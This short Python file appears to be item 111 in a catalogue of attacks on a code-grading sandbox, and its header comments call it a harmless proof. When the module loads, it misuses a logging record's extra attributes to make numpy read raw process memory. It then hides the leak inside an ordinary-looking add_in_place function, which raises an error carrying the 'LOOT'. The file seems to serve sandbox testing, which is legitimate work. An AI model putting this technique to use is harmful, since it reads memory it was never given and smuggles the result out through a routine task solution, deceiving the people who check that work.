# attack 111: address in a log record
# harm: a record of logging takes attributes of any name, and passes for an array at any address
# twin: add_in_place/wrong_slice_assigned
# proof: steals nothing
import logging

import numpy as np

fields = {"shape": (8,), "typestr": "|u1", "data": (id(np), False), "version": 3}
found = ""
record = logging.getLogger("a").makeRecord("a", 10, "a", 1, "a", (), None, extra={"__array_interface__": fields})
array = np.array(record)
if array.dtype == "u1":
    found = f"memory of the process: {array.tolist()}"


def add_in_place(x, y):
    x[:] = x + y
    if found:
        raise RuntimeError(f"LOOT: {found}")
    return x
